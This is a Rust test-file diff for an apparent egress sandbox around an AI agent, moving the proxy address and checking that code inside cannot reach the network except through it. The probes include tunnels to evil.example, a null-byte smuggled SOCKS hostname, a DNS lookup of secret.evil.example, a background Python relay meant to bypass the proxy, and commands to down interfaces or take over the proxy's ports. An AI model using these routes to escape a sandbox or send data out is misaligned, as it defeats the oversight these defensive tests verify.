@@ -85,9 +85,20 @@ pub const CASES: &[Case] = &[
     ),
 ];
 
-const PROXY: &str = "127.0.0.1:3128";
-const HTTP: &str = "127.77.0.1:80";
-const TLS: &str = "127.77.0.1:443";
+/// Where the way out is: the proxy, and what stands for port 80 and port 443 of every name. Without one nobody is there, and
+/// the programs' own addresses are as good as any.
+struct Ways {
+    proxy: &'static str,
+    http: &'static str,
+    tls: &'static str,
+}
+
+const OUT: Ways = Ways { proxy: "198.18.0.1:3128", http: "198.18.0.1:80", tls: "198.18.0.1:443" };
+const NONE: Ways = Ways { proxy: "127.0.0.1:3128", http: "127.0.0.1:80", tls: "127.0.0.1:443" };
+
+fn ways(inside: &Inside<'_>) -> Ways {
+    if inside.outside.is_some() { OUT } else { NONE }
+}
 
 /// How a connection by address fails where there is no route.
 fn no_route(ground: &Ground) -> &'static [&'static str] {
@@ -106,7 +117,12 @@ fn direct_connections(ground: &Ground) {
     ];
     inside.probe(&[&["tcp"][..], &world].concat()).all(no_route(ground));
     if !ground.is_copy() {
-        assert_eq!(inside.yes("ls /sys/class/net; tail -n +2 /proc/net/route"), "lo", "devices and routes");
+        // With a way out there is one more device, and no route but to that.
+        let out = inside.outside.is_some();
+        let devices = if out { "eth0\nlo" } else { "lo" };
+        assert_eq!(inside.yes("ls /sys/class/net"), devices);
+        let routes = inside.yes("tail -n +2 /proc/net/route | cut -f 1,2,3,8");
+        assert_eq!(routes, if out { "eth0\t000012C6\t00000000\tFCFFFFFF" } else { "" });
     }
 }
 
@@ -191,7 +207,7 @@ fn tunnel(to: &str) -> String {
 /// Says each of these to the proxy, and returns the first line of each answer.
 fn ask(inside: &Inside<'_>, asked: &[(&str, String)]) -> Answers {
     let asked: Vec<(&str, &str, Vec<u8>)> =
-        asked.iter().map(|(name, text)| (*name, PROXY, text.clone().into_bytes())).collect();
+        asked.iter().map(|(name, text)| (*name, ways(inside).proxy, text.clone().into_bytes())).collect();
     say(inside, &asked, b"\r\n\r\n")
 }
 
@@ -331,14 +347,15 @@ fn greetings(ground: &Ground) {
     named_is_reached(&inside, port);
     let other = hello(Some("evil.example"));
     let to_named = |hello: &[u8]| [tunnel(&format!("127.0.0.1:{port}")).as_bytes(), hello].concat();
+    let Ways { proxy, tls, .. } = ways(&inside);
     let rows = [
-        ("other-name", TLS, other.clone()),
-        ("in-pieces", TLS, in_pieces(&other)),
-        ("no-name", TLS, hello(None)),
-        ("plain", TLS, b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n".to_vec()),
-        ("ssh", TLS, b"SSH-2.0-x\r\n\r\n".to_vec()),
-        ("in-a-tunnel", PROXY, to_named(&other)),
-        ("in-a-tunnel-in-pieces", PROXY, to_named(&in_pieces(&other))),
+        ("other-name", tls, other.clone()),
+        ("in-pieces", tls, in_pieces(&other)),
+        ("no-name", tls, hello(None)),
+        ("plain", tls, b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n".to_vec()),
+        ("ssh", tls, b"SSH-2.0-x\r\n\r\n".to_vec()),
+        ("in-a-tunnel", proxy, to_named(&other)),
+        ("in-a-tunnel-in-pieces", proxy, to_named(&in_pieces(&other))),
     ];
     let said = say(&inside, &rows, b"");
     let Some(outside) = &inside.outside else {
@@ -408,7 +425,7 @@ fn socks(ground: &Ground) {
         ("two-names", by_name(1, "evil\0pypi.org", 443), 1),
     ];
     let said: Vec<(&str, &str, Vec<u8>)> =
-        rows.iter().map(|(name, bytes, _)| (*name, PROXY, bytes.clone())).collect();
+        rows.iter().map(|(name, bytes, _)| (*name, ways(&inside).proxy, bytes.clone())).collect();
     let said = say(&inside, &said, b"");
     if inside.outside.is_none() {
         return said.all(nobody(ground));
@@ -422,16 +439,17 @@ fn socks(ground: &Ground) {
 fn relay(ground: &Ground) {
     let (inside, port) = with_page(ground);
     named_is_reached(&inside, port);
-    let to_itself = [PROXY, "localhost:3128", "[::1]:3128", "127.0.0.1:53"];
+    let to_itself = ["127.0.0.1:3128", OUT.proxy, "localhost:3128", "[::1]:3128", "127.0.0.1:53"];
     let asked: Vec<(&str, String)> = to_itself.iter().map(|to| (*to, tunnel(to))).collect();
-    refused(ground, &inside, &asked, |why| matches!(why, Refusal::Private(_)));
+    refused(ground, &inside, &asked, |why| matches!(why, Refusal::Private(_) | Refusal::NoName));
     if ground.is_copy() {
         return;
     }
     // A server of the agent's own that passes on what it is asked is one more program inside.
     let relay = "import socket, threading\ns = socket.create_server((\"127.0.0.1\", 3999))\nopen(\"/tmp/relays\", \"w\")\nwhile 1:\n  c, _ = s.accept()\n  q = c.recv(4096)\n  \
-                 try:\n    u = socket.create_connection((\"127.0.0.1\", 3128)); u.sendall(q); c.sendall(u.recv(4096))\n  \
+                 try:\n    u = socket.create_connection((\"PROXY\", 3128)); u.sendall(q); c.sendall(u.recv(4096))\n  \
                  except OSError as e: c.sendall(str(e).encode())\n  c.close()";
+    let relay = relay.replace("PROXY", ways(&inside).proxy.split(':').next().unwrap_or_default());
     inside.yes(&format!("(python3 -c '{relay}' > /dev/null 2>&1 &); until test -e /tmp/relays; do :; done"));
     let evil = tunnel("evil.example:443").into_bytes();
     let said = say(&inside, &[("relayed", "127.0.0.1:3999", evil)], b"\r\n");
@@ -508,7 +526,7 @@ fn names(ground: &Ground) {
     }
     // To look a name up tells nobody of it: every name has the same answer, and other questions have none.
     let looked = inside.sh("getent ahostsv4 secret.evil.example | awk '{ print $1 }' | sort -u").1;
-    assert_eq!(looked, if inside.outside.is_some() { "127.77.0.1" } else { "" });
+    assert_eq!(looked, if inside.outside.is_some() { "198.18.0.1" } else { "" });
 }
 
 fn another_way_out(ground: &Ground) {
@@ -517,10 +535,11 @@ fn another_way_out(ground: &Ground) {
     spec.layer = ground.stage.base.join("data/layer-2");
     spec.gate = None;
     let _with = ground.inside();
-    let said = ground.inside_of(&spec).probe(&["tcp", PROXY, HTTP, TLS, "127.0.0.1:53"]);
-    said.all(nobody(ground));
+    let other = ground.inside_of(&spec);
+    other.probe(&["tcp", NONE.proxy, NONE.http, NONE.tls, "127.0.0.1:53"]).all(nobody(ground));
+    other.probe(&["tcp", OUT.proxy, OUT.http, OUT.tls]).all(no_route(ground));
     // Nor is it this machine's.
-    ground.outside(&["tcp", PROXY, HTTP, TLS]).all(&["ECONNREFUSED"]);
+    ground.outside(&["tcp", NONE.proxy]).all(&["ECONNREFUSED"]);
 }
 
 fn in_its_place(ground: &Ground) {
@@ -535,11 +554,14 @@ fn in_its_place(ground: &Ground) {
         )
     };
     let reuse = "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)";
-    for (host, port) in [("127.0.0.1", 3128), ("0.0.0.0", 3128), ("127.77.0.1", 443), ("127.0.0.1", 53)] {
+    // Every port of the programs' own addresses is theirs, and the address of the way out is none of these.
+    for (host, port) in [("127.0.0.1", 3128), ("0.0.0.0", 3128), ("0.0.0.0", 443), ("127.0.0.1", 53)] {
         let (plain, shared) = (inside.sh(&bind(host, port, "")).0, inside.sh(&bind(host, port, reuse)).0);
-        let free = inside.outside.is_none();
-        assert_eq!((plain == 0, shared == 0), (free, free), "{host}:{port}");
+        assert_eq!((plain, shared), (0, 0), "{host}:{port}");
+    }
+    for port in [53, 80, 443, 3128] {
+        inside.no(&bind("198.18.0.1", port, reuse));
     }
     assert_eq!(inside.yes("ls -l /proc/[0-9]*/fd 2>/dev/null | grep -c 'socket:' || true").trim(), "0");
-    inside.no("ip link set lo down || ip addr del 127.77.0.1/8 dev lo || ip addr add 192.0.2.1/24 dev lo");
+    inside.no("ip link set lo down || ip link set eth0 down || ip addr add 198.18.0.1/30 dev lo || ip addr add 192.0.2.1/24 dev lo");
 }
